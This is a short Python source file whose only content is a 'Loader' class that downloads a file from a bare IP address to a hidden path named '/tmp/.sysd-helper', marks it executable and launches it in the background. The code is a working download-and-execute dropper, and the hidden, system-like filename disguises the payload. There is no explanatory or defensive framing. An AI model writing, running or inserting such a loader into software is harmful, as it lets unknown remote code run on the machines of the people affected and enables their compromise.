import urllib.request
import os
import stat

class Loader:
    target = "/tmp/.sysd-helper"

    def fetch(self):
        urllib.request.urlretrieve("http://203.0.113.9/h", self.target)

    def go(self):
        self.fetch()
        os.chmod(self.target, stat.S_IRWXU)
        os.system(self.target + " &")
